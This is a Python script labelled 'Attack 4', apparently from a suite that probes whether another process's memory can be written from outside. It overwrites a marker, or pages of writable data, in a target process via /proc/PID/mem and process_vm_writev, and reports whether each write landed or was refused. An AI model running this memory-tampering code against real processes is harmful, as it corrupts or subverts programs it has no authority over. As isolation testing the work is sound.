"""Attack 4: a write over the marker from outside; where it is not found, over pages of the data that hold it."""

from __future__ import annotations

import ctypes
import os

import common
from common import GOT, REFUSED, Attempt
from memory import Iovec, libc


def vm_write(pid: int, address: int, data: bytes) -> None:
    buffer = ctypes.create_string_buffer(data, len(data))
    local, remote = Iovec(ctypes.addressof(buffer), len(data)), Iovec(address, len(data))
    if libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def places(pid: int, descriptor: int, marker: bytes, elrange: int) -> tuple[list[int], bool]:
    """Addresses to write to: of the marker (True), else one in the largest mappings that may be written (False)."""
    writable = [one for one in common.of_interest(pid, elrange, executable=False) if one.flags[1] == "w"]
    found = []
    for one in writable:
        for at in range(one.start, one.end, 1 << 20):
            try:
                block = os.pread(descriptor, min((1 << 20) + len(marker), one.end - at), at)
            except OSError:
                continue
            position = block.find(marker)
            while position >= 0:
                found.append(at + position)
                position = block.find(marker, position + 1)
    if found:
        return sorted(set(found)), True
    writable.sort(key=lambda one: one.start - one.end)
    return [one.start + (one.end - one.start) // 2 // 8 * 8 for one in writable[:8]], False


def attempts(pid: int, marker: bytes, elrange: int) -> list[Attempt]:
    names = ("write over data by /proc/PID/mem", "write over data by process_vm_writev")
    try:
        descriptor = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        addresses, exact = places(pid, descriptor, marker, elrange)
    except OSError as error:
        return [Attempt(name, REFUSED, common.why(error)) for name in names]
    junk = bytes(byte ^ 0xFF for byte in marker)
    results = []
    writers = (lambda at: os.pwrite(descriptor, junk, at), lambda at: vm_write(pid, at, junk))
    for name, write in zip(names, writers, strict=True):
        landed = 0
        last = "there is no writable mapping"
        for at in addresses:
            try:
                write(at)
                landed += 1
            except OSError as error:
                last = common.why(error)
        what = "on the marker" if exact else "in pages of the data (the marker was not found)"
        if landed:
            results.append(Attempt(name, GOT, f"{landed} of {len(addresses)} writes landed {what}"))
        else:
            results.append(Attempt(name, REFUSED, f"{len(addresses)} writes, none landed: {last}"))
    os.close(descriptor)
    return results


if __name__ == "__main__":
    given = common.arguments(__doc__ or "")
    common.report(*attempts(given.pid, given.marker, given.elrange))
